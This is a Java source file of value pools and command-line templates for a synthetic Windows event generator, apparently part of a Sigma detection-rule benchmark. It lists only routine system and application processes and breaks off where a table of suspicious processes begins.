package io.detectionhub.sigma.evaluation.benchmark;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;

/**
 * The value pools and templates of {@link EventGenerator}. Templates hold placeholders such as {@code {user}},
 * {@code {doc}} or {@code {guid}} that the generator fills in per event (a trailing digit, as in {@code {num2}}, asks
 * for another value of the same kind). Process tables are ordered from the most to the least frequent.
 */
final class EventValues {

    enum Account { SYSTEM, SERVICE, USER, ELEVATED }

    record Vendor(String company, String product, String fileVersion) {
    }

    record Proc(String image, String parent, Vendor vendor, String description, Account account,
                String... commands) {
    }

    record Host(String name, String ip, boolean server, boolean desktop, int primaryUser) {
    }

    /** A Sysmon network connection: host name template ("" when Sysmon saw none), IP prefix ("" for one per name). */
    record Connection(String image, String hostname, String ipPrefix, int port) {
    }

    /** What a process writes (file; registry key and value) or loads (DLL and its description). */
    record Activity(String image, String target, String detail) {
    }

    static final String SYS = "C:\\Windows\\System32\\";
    static final String WOW = "C:\\Windows\\SysWOW64\\";
    static final String PF = "C:\\Program Files\\";
    static final String PF86 = "C:\\Program Files (x86)\\";
    static final String LOCAL = "{home}\\AppData\\Local\\";
    static final String ROAMING = "{home}\\AppData\\Roaming\\";
    static final String TEMP = LOCAL + "Temp\\";

    static final Vendor WINDOWS_OS = new Vendor("Microsoft Corporation",
            "Microsoft® Windows® Operating System", "10.0.19041.3636 (WinBuild.160101.0800)");
    private static final Vendor OFFICE = new Vendor("Microsoft Corporation", "Microsoft Office", "16.0.17328.20282");
    private static final Vendor EDGE = new Vendor("Microsoft Corporation", "Microsoft Edge", "124.0.2478.80");
    private static final Vendor TEAMS = new Vendor("Microsoft Corporation", "Microsoft Teams", "1.7.00.7956");
    private static final Vendor ONEDRIVE = new Vendor("Microsoft Corporation", "Microsoft OneDrive",
            "24.076.0414.0003");
    private static final Vendor VSCODE = new Vendor("Microsoft Corporation", "Visual Studio Code", "1.89.1");
    private static final Vendor DOTNET = new Vendor("Microsoft Corporation", "Microsoft® .NET", "8.0.424.16909");
    private static final Vendor SQL = new Vendor("Microsoft Corporation", "Microsoft SQL Server",
            "2019.0150.4360.02");
    private static final Vendor GOOGLE = new Vendor("Google LLC", "Google Chrome", "124.0.6367.119");
    private static final Vendor GOOGLE_UPDATE = new Vendor("Google LLC", "Google Update", "1.3.36.372");
    private static final Vendor MOZILLA = new Vendor("Mozilla Corporation", "Firefox", "125.0.3");
    private static final Vendor SLACK = new Vendor("Slack Technologies, Inc.", "Slack", "4.38.125");
    private static final Vendor ZOOM = new Vendor("Zoom Video Communications, Inc.", "Zoom", "6.0.4.38135");
    private static final Vendor ADOBE = new Vendor("Adobe Inc.", "Adobe Acrobat", "24.2.20687.0");
    private static final Vendor SEVEN_ZIP = new Vendor("Igor Pavlov", "7-Zip", "23.01");
    private static final Vendor NOTEPADPP = new Vendor("Don HO don.h@free.fr", "Notepad++", "8.6.5");
    private static final Vendor GIT = new Vendor("The Git Development Community", "Git", "2.45.0.1");
    private static final Vendor NODE = new Vendor("Node.js", "Node.js", "20.12.2");
    private static final Vendor PYTHON = new Vendor("Python Software Foundation", "Python", "3.11.9");
    private static final Vendor JAVA = new Vendor("Eclipse Adoptium", "OpenJDK Platform 17.0.10", "17.0.10.0");
    private static final Vendor VMWARE = new Vendor("VMware, Inc.", "VMware Tools", "12.3.5.46049");

    static final String SERVICES = SYS + "services.exe";
    static final String SVCHOST = SYS + "svchost.exe";
    static final String EXPLORER = "C:\\Windows\\explorer.exe";
    static final String CMD = SYS + "cmd.exe";
    static final String POWERSHELL = SYS + "WindowsPowerShell\\v1.0\\powershell.exe";
    static final String CHROME = PF + "Google\\Chrome\\Application\\chrome.exe";
    static final String MSEDGE = PF86 + "Microsoft\\Edge\\Application\\msedge.exe";
    static final String FIREFOX = PF + "Mozilla Firefox\\firefox.exe";
    static final String OFFICE16 = PF + "Microsoft Office\\root\\Office16\\";
    static final String MSMPENG = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{defender}\\MsMpEng.exe";
    static final String TEAMS_CLASSIC = LOCAL + "Microsoft\\Teams\\current\\Teams.exe";
    static final String TEAMS_NEW = PF + "WindowsApps\\MSTeams_{teamsver}_x64__8wekyb3d8bbwe\\ms-teams.exe";
    static final String ONEDRIVE_EXE = LOCAL + "Microsoft\\OneDrive\\OneDrive.exe";
    static final String SLACK_EXE = LOCAL + "slack\\app-4.38.125\\slack.exe";
    static final String ZOOM_EXE = ROAMING + "Zoom\\bin\\Zoom.exe";
    static final String CODE_EXE = LOCAL + "Programs\\Microsoft VS Code\\Code.exe";
    static final String WEBVIEW = PF86 + "Microsoft\\EdgeWebView\\Application\\{edgever}\\msedgewebview2.exe";
    static final String GIT_EXE = PF + "Git\\cmd\\git.exe";
    static final String PYTHON_EXE = LOCAL + "Programs\\Python\\Python311\\python.exe";
    private static final String CHROMIUM_CHILD = " --field-trial-handle={num},i,{big},{big2},262144 --lang=en-US "
            + "--mojo-platform-channel-handle={num2} /prefetch:";

    static final Proc[] WINDOWS = {
            proc(SVCHOST, SERVICES, WINDOWS_OS, "Host Process for Windows Services", Account.SERVICE,
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv",
                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc",
                    "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s lmhosts",
                    "C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s Dnscache",
                    "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc",
                    "C:\\Windows\\System32\\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain",
                    "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
                    "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s EventSystem",
                    "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{hexs}",
                    "C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s WpnUserService_{hexs}",
                    "C:\\Windows\\system32\\svchost.exe -k ClipboardSvcGroup -p -s cbdhsvc_{hexs}"),
            proc(CHROME, CHROME, GOOGLE, "Google Chrome", Account.USER,
                    q(CHROME) + " --type=renderer --renderer-client-id={num3} --time-ticks-at-unix-epoch=-{big3}"
                            + CHROMIUM_CHILD + "1",
                    q(CHROME) + " --type=utility --utility-sub-type=network.mojom.NetworkService "
                            + "--service-sandbox-type=none" + CHROMIUM_CHILD + "11",
                    q(CHROME) + " --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAAAAAA4"
                            + CHROMIUM_CHILD + "2",
                    q(CHROME) + " --type=crashpad-handler \"--user-data-dir=" + LOCAL + "Google\\Chrome\\User Data\" "
                            + "/prefetch:4 --url=https://clients2.google.com/cr/report --annotation=plat=Win64 "
                            + "--annotation=prod=Chrome --annotation=ver={chromever} --initial-client-data=0x{hexs},"
                            + "0x{hexs2},0x{hexs3},0x{hexs4}",
                    q(CHROME) + " --single-argument {url}",
                    q(CHROME) + " "),
            proc(SYS + "conhost.exe", CMD, WINDOWS_OS, "Console Window Host", Account.USER,
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0x4"),
            proc(MSEDGE, MSEDGE, EDGE, "Microsoft Edge", Account.USER,
                    q(MSEDGE) + " --type=renderer --instant-process --renderer-client-id={num3}" + CHROMIUM_CHILD + "1",
                    q(MSEDGE) + " --type=utility --utility-sub-type=storage.mojom.StorageService "
                            + "--service-sandbox-type=service" + CHROMIUM_CHILD + "13",
                    q(MSEDGE) + " --single-argument {url}",
                    q(MSEDGE) + " --no-startup-window --win-session-start /prefetch:5"),
            proc(SYS + "RuntimeBroker.exe", SVCHOST, WINDOWS_OS, "Runtime Broker", Account.USER,
                    "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"),
            proc(TEAMS_NEW, EXPLORER, TEAMS, "Microsoft Teams", Account.USER,
                    q(TEAMS_NEW) + " msteams:system-initiated", q(TEAMS_NEW) + " "),
            proc(WEBVIEW, TEAMS_NEW, EDGE, "Microsoft Edge WebView2", Account.USER,
                    q(WEBVIEW) + " --type=renderer --noerrdialogs --user-data-dir=\"" + LOCAL + "Packages\\MSTeams_"
                            + "8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\EBWebView\" "
                            + "--webview-exe-name=ms-teams.exe "
                            + "--embedded-browser-webview=1 --renderer-client-id={num3}" + CHROMIUM_CHILD + "1"),
            proc(SYS + "backgroundTaskHost.exe", SVCHOST, WINDOWS_OS, "Background Task Host", Account.USER,
                    "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:{taskserver}"),
            proc(SYS + "taskhostw.exe", SVCHOST, WINDOWS_OS, "Host Process for Windows Tasks", Account.USER,
                    "taskhostw.exe {guid}", "taskhostw.exe KEYROAMING", "taskhostw.exe Install $(Arg0)",
                    "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"),
            proc(MSMPENG, SERVICES, WINDOWS_OS, "Antimalware Service Executable", Account.SYSTEM, q(MSMPENG)),
            proc(OFFICE16 + "OUTLOOK.EXE", EXPLORER, OFFICE, "Microsoft Outlook", Account.USER,
                    q(OFFICE16 + "OUTLOOK.EXE") + " ", q(OFFICE16 + "OUTLOOK.EXE") + " /recycle",
                    q(OFFICE16 + "OUTLOOK.EXE") + " /eml \"{home}\\Downloads\\{doc}.eml\""),
            proc(EXPLORER, SYS + "userinit.exe", WINDOWS_OS, "Windows Explorer", Account.USER,
                    "C:\\Windows\\Explorer.EXE",
                    "\"C:\\Windows\\explorer.exe\" /select,\"{home}\\Downloads\\{doc}.zip\""),
            proc(CMD, EXPLORER, WINDOWS_OS, "Windows Command Processor", Account.USER,
                    "\"C:\\Windows\\system32\\cmd.exe\" ",
                    "C:\\Windows\\system32\\cmd.exe /d /s /c \"git config --get remote.origin.url\"",
                    "C:\\Windows\\system32\\cmd.exe /c \"npm run build --prefix {home}\\source\\repos\\{project}\"",
                    "cmd /c copy \"\\\\{server}\\public\\{dept}\\{doc}.xlsx\" \"{home}\\Documents\\\"",
                    "C:\\Windows\\system32\\cmd.exe /c \"\"C:\\Program Files\\nodejs\\npm.cmd\" install {pkg}\""),
            proc(TEAMS_CLASSIC, TEAMS_CLASSIC, TEAMS, "Microsoft Teams", Account.USER,
                    q(TEAMS_CLASSIC) + " --type=renderer --autoplay-policy=no-user-gesture-required "
                            + "--app-path=\"" + LOCAL + "Microsoft\\Teams\\current\\resources\\app.asar\" "
                            + "--enable-sandbox" + CHROMIUM_CHILD + "1",
                    q(TEAMS_CLASSIC) + " --system-initiated"),
            proc(ONEDRIVE_EXE, EXPLORER, ONEDRIVE, "Microsoft OneDrive", Account.USER,
                    q(ONEDRIVE_EXE) + " /background", q(ONEDRIVE_EXE) + " /updateInstalled /background",
                    q(ONEDRIVE_EXE) + " /url:odopen://sync/?siteId={lguid}&webId={lguid2}&listId=%7B{lguid3}%7D"
                            + "&userEmail={user}%40contoso.com&webUrl=https%3A%2F%2Fcontoso.sharepoint.com"
                            + "%2Fsites%2F{dept}"),
            proc(POWERSHELL, EXPLORER, WINDOWS_OS, "Windows PowerShell", Account.USER,
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
                    "powershell.exe -NoProfile -Command \"Get-Service | Where-Object Status -eq Running\"",
                    "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoExit -Command "
                            + "\"Set-Location -LiteralPath '{home}\\source\\repos\\{project}'\"",
                    "powershell.exe -File \"{home}\\Documents\\scripts\\{word}-report.ps1\" -OutputPath "
                            + "\"\\\\{server}\\reports\\{word}_{date}.csv\""),
            proc(SYS + "SearchIndexer.exe", SERVICES, WINDOWS_OS, "Microsoft Windows Search Indexer",
                    Account.SYSTEM, "C:\\Windows\\system32\\SearchIndexer.exe /Embedding"),
            proc(SYS + "SearchProtocolHost.exe", SYS + "SearchIndexer.exe", WINDOWS_OS,
                    "Microsoft Windows Search Protocol Host", Account.SYSTEM,
                    "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{num}_ "
                            + "Global\\UsGthrCtrlFltPipeMssGthrPipe{num} 1 -2147483646 \"Software\\Microsoft\\Windows "
                            + "Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
                            + "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""),
            proc(SYS + "SearchFilterHost.exe", SYS + "SearchIndexer.exe", WINDOWS_OS,
                    "Microsoft Windows Search Filter Host", Account.SYSTEM,
                    "\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 {num} {num2} {num3} 8192 {num4} "),
            proc(SYS + "dllhost.exe", SVCHOST, WINDOWS_OS, "COM Surrogate", Account.USER,
                    "C:\\Windows\\system32\\DllHost.exe /Processid:{clsid}"),
            proc(SYS + "wbem\\WmiPrvSE.exe", SVCHOST, WINDOWS_OS, "WMI Provider Host", Account.SERVICE,
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"),
            proc(OFFICE16 + "WINWORD.EXE", EXPLORER, OFFICE, "Microsoft Word", Account.USER,
                    q(OFFICE16 + "WINWORD.EXE") + " /n \"{home}\\Documents\\{doc}.docx\" /o \"\"",
                    q(OFFICE16 + "WINWORD.EXE") + " /n \"{home}\\Downloads\\{doc}.docx\" /o \"\"",
                    q(OFFICE16 + "WINWORD.EXE") + " /n \"{home}\\OneDrive - Contoso\\{dept}\\{doc}.docx\" /o \"\""),
            proc(OFFICE16 + "EXCEL.EXE", EXPLORER, OFFICE, "Microsoft Excel", Account.USER,
                    q(OFFICE16 + "EXCEL.EXE") + " \"{home}\\Documents\\{doc}.xlsx\"",
                    q(OFFICE16 + "EXCEL.EXE") + " \"\\\\{server}\\public\\{dept}\\{doc}.xlsx\""),
            proc(FIREFOX, FIREFOX, MOZILLA, "Firefox", Account.USER,
                    q(FIREFOX) + " -contentproc --channel=\"{pid}.{num}.{big}\\{big2}\" -childID {num2} "
                            + "-isForBrowser -prefsHandle {num3}:{num4} -prefMapHandle {num5}:{num6} -parentBuildID "
                            + "20240429121745 -appDir \"C:\\Program Files\\Mozilla Firefox\\browser\" - {pid} "
                            + "\"\\\\.\\pipe\\gecko-crash-server-pipe.{pid}\" tab",
                    q(FIREFOX) + " -osint -url \"{url}\""),
            proc(SYS + "smartscreen.exe", SVCHOST, WINDOWS_OS, "Windows Defender SmartScreen", Account.USER,
                    "C:\\Windows\\System32\\smartscreen.exe -Embedding"),
            proc(SYS + "MoUsoCoreWorker.exe", SVCHOST, WINDOWS_OS, "MoUSO Core Worker Process", Account.SYSTEM,
                    "C:\\Windows\\System32\\mousocoreworker.exe -Embedding"),
            proc(ZOOM_EXE, EXPLORER, ZOOM, "Zoom Meetings", Account.USER,
                    q(ZOOM_EXE) + " \"--url=zoommtg://zoom.us/join?action=join&confno={big}&pwd={token}\"",
                    q(ZOOM_EXE) + " --action=preload"),
            proc(SLACK_EXE, SLACK_EXE, SLACK, "Slack", Account.USER,
                    q(SLACK_EXE) + " --type=renderer --user-data-dir=\"" + ROAMING + "Slack\" "
                            + "--app-path=\"" + LOCAL + "slack\\app-4.38.125\\resources\\app.asar\"" + CHROMIUM_CHILD
                            + "1",
                    q(SLACK_EXE) + " --process-start-args --startup"),
            proc(CODE_EXE, EXPLORER, VSCODE, "Visual Studio Code", Account.USER,
                    q(CODE_EXE) + " \"{home}\\source\\repos\\{project}\"",
                    q(CODE_EXE) + " --type=utility --utility-sub-type=node.mojom.NodeService --user-data-dir=\""
                            + ROAMING + "Code\" --standard-schemes=vscode-webview,vscode-file" + CHROMIUM_CHILD + "8"),
            proc(GIT_EXE, CODE_EXE, GIT, "Git for Windows", Account.USER,
                    "git.exe -c core.quotepath=false -c color.ui=false status -z -uall",
                    "git.exe fetch --prune origin", "git.exe log --oneline -n {num} -- src/{word}",
                    "\"C:\\Program Files\\Git\\cmd\\git.exe\" clone https://github.com/contoso/{project}.git "
                            + "\"{home}\\source\\repos\\{project}\""),
            proc(SYS + "sihost.exe", SVCHOST, WINDOWS_OS, "Shell Infrastructure Host", Account.USER, "sihost.exe"),
            proc(SYS + "ctfmon.exe", SVCHOST, WINDOWS_OS, "CTF Loader", Account.USER, "\"ctfmon.exe\""),
            proc("C:\\Windows\\SystemApps\\MicrosoftWindows.Client.CBS_cw5n1h2txyewy\\SearchHost.exe", SVCHOST,
                    WINDOWS_OS, "Search application", Account.USER,
                    "\"C:\\Windows\\SystemApps\\MicrosoftWindows.Client.CBS_cw5n1h2txyewy\\SearchHost.exe\" "
                            + "-ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca"),
            proc("C:\\Windows\\SystemApps\\Microsoft.Windows.StartMenuExperienceHost_cw5n1h2txyewy\\"
                            + "StartMenuExperienceHost.exe", SVCHOST, WINDOWS_OS, "Windows Start Experience Host",
                    Account.USER, "\"C:\\Windows\\SystemApps\\Microsoft.Windows.StartMenuExperienceHost_"
                            + "cw5n1h2txyewy\\StartMenuExperienceHost.exe\" -ServerName:App.AppXywbrabmsek0gm3tkwpr5kwz"
                            + "bs55tkqay.mca"),
            proc(SYS + "WerFault.exe", SVCHOST, WINDOWS_OS, "Windows Problem Reporting", Account.USER,
                    "C:\\Windows\\system32\\WerFault.exe -u -p {pid} -s {num}"),
            proc(WOW + "WerFault.exe", SVCHOST, WINDOWS_OS, "Windows Problem Reporting", Account.USER,
                    "C:\\Windows\\SysWOW64\\WerFault.exe -u -p {pid} -s {num}"),
            proc(SYS + "msiexec.exe", SERVICES, WINDOWS_OS, "Windows® installer", Account.SYSTEM,
                    "C:\\Windows\\system32\\msiexec.exe /V"),
            proc(WOW + "msiexec.exe", SYS + "msiexec.exe", WINDOWS_OS, "Windows® installer", Account.SYSTEM,
                    "C:\\Windows\\syswow64\\MsiExec.exe -Embedding {token} E Global\\MSI0000"),
            proc(PF86 + "Google\\Update\\GoogleUpdate.exe", SVCHOST, GOOGLE_UPDATE, "Google Installer",
                    Account.SYSTEM,
                    "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ua /installsource scheduler",
                    "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /c"),
            proc(PF86 + "Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", SVCHOST, EDGE, "Microsoft Edge Update",
                    Account.SYSTEM,
                    "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /c",
                    "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /ua "
                            + "/installsource scheduler"),
            proc(PF + "Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe", SERVICES, OFFICE,
                    "Microsoft Office Click-to-Run", Account.SYSTEM,
                    "\"C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe\" /service",
                    "\"C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe\" "
                            + "deliverymechanism=492350f6-3a01-4f97-b9c0-c7c6ddf67d60 scenario=update "
                            + "scenariosubtype=detectandapply culture=en-us displaylevel=false"),
            proc("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{defender}\\MpCmdRun.exe", SVCHOST,
                    WINDOWS_OS, "Microsoft Malware Protection Command Line Utility", Account.SYSTEM,
                    "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{defender}\\MpCmdRun.exe\" "
                            + "SignatureUpdate -ScheduleJob -RestrictPrivileges -DailyReboot",
                    "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{defender}\\MpCmdRun.exe\" "
                            + "Scan -ScheduleJob -ScanTrigger 55 -IdleScheduledJob"),
            proc("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{defender}\\NisSrv.exe", SERVICES,
                    WINDOWS_OS, "Microsoft Network Realtime Inspection Service", Account.SERVICE,
                    "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{defender}\\NisSrv.exe\""),
            proc(SYS + "CompatTelRunner.exe", SVCHOST, WINDOWS_OS, "Microsoft Compatibility Telemetry",
                    Account.SYSTEM, "C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll "
                            + "-f:DoScheduledTelemetryRun", "C:\\Windows\\system32\\compattelrunner.exe "
                            + "-m:aeinv.dll -f:UpdateSoftwareInventoryW invsvc"),
            proc(SYS + "wuauclt.exe", SVCHOST, WINDOWS_OS, "Windows Update", Account.SYSTEM,
                    "\"C:\\Windows\\system32\\wuauclt.exe\" /UpdateDeploymentProvider UpdateDeploymentProvider.dll "
                            + "/ClassId {guid} /RunHandlerComServer"),
            proc(SYS + "audiodg.exe", SVCHOST, WINDOWS_OS, "Windows Audio Device Graph Isolation",
                    Account.SERVICE, "C:\\Windows\\system32\\AUDIODG.EXE 0x{hexs}"),
            proc(SYS + "net.exe", CMD, WINDOWS_OS, "Net Command", Account.USER,
                    "net use H: \\\\{server}\\home\\{user} /persistent:no",
                    "net use P: \\\\{server}\\public\\{dept} /persistent:no"),
            proc(SYS + "gpupdate.exe", CMD, WINDOWS_OS, "Microsoft® Windows Group Policy Update Utility",
                    Account.ELEVATED, "gpupdate /target:computer /force", "gpupdate /force"),
            proc(SYS + "ipconfig.exe", CMD, WINDOWS_OS, "IP Configuration Utility", Account.USER,
                    "ipconfig /flushdns", "ipconfig /renew"),
            proc(PF + "Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe", EXPLORER, ADOBE, "Adobe Acrobat", Account.USER,
                    "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"{home}\\Downloads\\{doc}.pdf\"",
                    "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"{home}\\Documents\\{doc}.pdf\""),
            proc(OFFICE16 + "POWERPNT.EXE", EXPLORER, OFFICE, "Microsoft PowerPoint", Account.USER,
                    q(OFFICE16 + "POWERPNT.EXE") + " \"{home}\\Documents\\{doc}.pptx\" /ou \"\""),
            proc(SYS + "notepad.exe", EXPLORER, WINDOWS_OS, "Notepad", Account.USER,
                    "\"C:\\Windows\\system32\\NOTEPAD.EXE\" {home}\\Documents\\{doc}.txt",
                    "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Logs\\{app}\\{app}_{date}.log"),
            proc(PF + "Notepad++\\notepad++.exe", EXPLORER, NOTEPADPP, "Notepad++", Account.USER,
                    "\"C:\\Program Files\\Notepad++\\notepad++.exe\" \"{home}\\Documents\\{doc}.txt\""),
            proc(PF + "7-Zip\\7z.exe", EXPLORER, SEVEN_ZIP, "7-Zip Console", Account.USER,
                    "\"C:\\Program Files\\7-Zip\\7z.exe\" x \"{home}\\Downloads\\{doc}.zip\" "
                            + "-o\"{home}\\Downloads\\{doc}\" -y",
                    "\"C:\\Program Files\\7-Zip\\7z.exe\" a -tzip \"{home}\\Documents\\{doc}.zip\" "
                            + "\"{home}\\Documents\\{project}\\*\""),
            proc(PYTHON_EXE, CMD, PYTHON, "Python", Account.USER,
                    "python.exe -m pip install --user {pkg}",
                    "python.exe \"{home}\\source\\repos\\{project}\\main.py\" --input "
                            + "\"{home}\\Documents\\{doc}.csv\""),
            proc(PF + "Eclipse Adoptium\\jdk-17.0.10.7-hotspot\\bin\\java.exe", CMD, JAVA, "OpenJDK Platform binary",
                    Account.USER, "java.exe -Xmx2g -jar \"{home}\\source\\repos\\{project}\\target\\{project}.jar\" "
                            + "--server.port={port}"),
            proc(PF + "dotnet\\dotnet.exe", CMD, DOTNET, ".NET Host", Account.USER,
                    "\"C:\\Program Files\\dotnet\\dotnet.exe\" build "
                            + "\"{home}\\source\\repos\\{project}\\{project}.sln\"",
                    "dotnet.exe test --no-build --logger trx"),
            proc(SYS + "Taskmgr.exe", EXPLORER, WINDOWS_OS, "Task Manager", Account.ELEVATED,
                    "\"C:\\Windows\\system32\\taskmgr.exe\" /4"),
            proc(SYS + "mmc.exe", EXPLORER, WINDOWS_OS, "Microsoft Management Console", Account.ELEVATED,
                    "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\compmgmt.msc\" /s",
                    "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\eventvwr.msc\" /s",
                    "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\dsa.msc\""),
            proc(SYS + "PING.EXE", CMD, WINDOWS_OS, "TCP/IP Ping Command", Account.USER, "ping -n 4 {server}",
                    "ping {server} -t"),
            proc(SYS + "Robocopy.exe", CMD, WINDOWS_OS, "Microsoft Robocopy", Account.USER,
                    "robocopy \"{home}\\Documents\" \"\\\\{server}\\home\\{user}\\Documents\" /MIR /R:2 /W:5"),
            proc(SYS + "SecurityHealthService.exe", SERVICES, WINDOWS_OS, "Windows Security Health Service",
                    Account.SYSTEM, "C:\\Windows\\system32\\SecurityHealthService.exe"),
            proc(SYS + "SecurityHealthSystray.exe", EXPLORER, WINDOWS_OS, "Windows Security notification icon",
                    Account.USER, "\"C:\\Windows\\System32\\SecurityHealthSystray.exe\" "),
            proc(PF + "VMware\\VMware Tools\\vmtoolsd.exe", EXPLORER, VMWARE, "VMware Tools Core Service",
                    Account.USER, "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr"),
            proc(WOW + "OpenWith.exe", SVCHOST, WINDOWS_OS, "Pick an app", Account.USER,
                    "C:\\Windows\\SysWOW64\\OpenWith.exe -Embedding"),
            proc(PF + "Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", SERVICES, SQL,
                    "SQL Server Windows NT - 64 Bit", Account.SERVICE,
                    "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" "
                            + "-sMSSQLSERVER"),
            proc("C:\\ProgramData\\chocolatey\\choco.exe", POWERSHELL, new Vendor("Chocolatey Software, Inc.",
                    "Chocolatey", "2.2.2.0"), "Chocolatey", Account.ELEVATED,
                    "choco.exe upgrade {pkg} -y --no-progress",
                    "\"C:\\ProgramData\\chocolatey\\choco.exe\" outdated"),
            proc(SYS + "mstsc.exe", EXPLORER, WINDOWS_OS, "Remote Desktop Connection", Account.USER,
                    "\"C:\\Windows\\system32\\mstsc.exe\" /v:{server}",
                    "\"C:\\Windows\\system32\\mstsc.exe\" \"{home}\\Documents\\{server}.rdp\"",
                    "\"C:\\Windows\\system32\\mstsc.exe\" "),
            proc(PF + "nodejs\\node.exe", CMD, NODE, "Node.js JavaScript Runtime", Account.USER,
                    "node.exe --run build",
                    "\"C:\\Program Files\\nodejs\\node.exe\" --watch-path=src --env-file=.env.{word}",
                    "\"C:\\Program Files\\nodejs\\node.exe\" \"{home}\\source\\repos\\{project}\\server.js\" "
                            + "--port {port}"),
            proc(WOW + "cmd.exe", WOW + "msiexec.exe", WINDOWS_OS, "Windows Command Processor", Account.ELEVATED,
                    "C:\\Windows\\SysWOW64\\cmd.exe /c \"\"C:\\Program Files (x86)\\{app}\\uninstall.exe\" /S\""),
            proc(SYS + "inetsrv\\w3wp.exe", SVCHOST, WINDOWS_OS, "IIS Worker Process", Account.SERVICE,
                    "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"{app}\" -v \"v4.0\" -l \"webengine4.dll\" "
                            + "-a \\\\.\\pipe\\iisipm{lguid} -h \"C:\\inetpub\\temp\\apppools\\{app}\\{app}.config\" "
                            + "-w \"\" -m 0 -t 20 -ta 0"),
            proc(POWERSHELL, SVCHOST, WINDOWS_OS, "Windows PowerShell", Account.USER,
                    "powershell.exe -NoProfile -NonInteractive -File "
                            + "\"C:\\ProgramData\\Contoso\\Scripts\\{word}.ps1\""),
            proc(SYS + "curl.exe", CMD, WINDOWS_OS, "The curl executable", Account.USER,
                    "curl.exe -s https://{domain}/api/health", "curl.exe -I https://{domain}/"),
            proc(SYS + "conhost.exe", POWERSHELL, WINDOWS_OS, "Console Window Host", Account.ELEVATED,
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
            proc(SYS + "dwm.exe", SYS + "winlogon.exe", WINDOWS_OS, "Desktop Window Manager", Account.SYSTEM,
                    "\"dwm.exe\""),
            proc(SYS + "userinit.exe", SYS + "winlogon.exe", WINDOWS_OS, "Userinit Logon Application", Account.USER,
                    "C:\\Windows\\system32\\userinit.exe"),
            proc(SYS + "winlogon.exe", SYS + "smss.exe", WINDOWS_OS, "Windows Logon Application", Account.SYSTEM,
                    "winlogon.exe"),
            proc(SERVICES, SYS + "wininit.exe", WINDOWS_OS, "Services and Controller app", Account.SYSTEM,
                    "C:\\Windows\\system32\\services.exe"),
            proc(SYS + "wininit.exe", SYS + "smss.exe", WINDOWS_OS, "Windows Start-Up Application", Account.SYSTEM,
                    "wininit.exe"),
            proc(SYS + "smss.exe", SYS + "smss.exe", WINDOWS_OS, "Windows Session Manager", Account.SYSTEM,
                    "\\SystemRoot\\System32\\smss.exe 000000{hexs} 000000{hexs2} "),
    };

    static final Proc[] WINDOWS_SUSPICIOUS = {
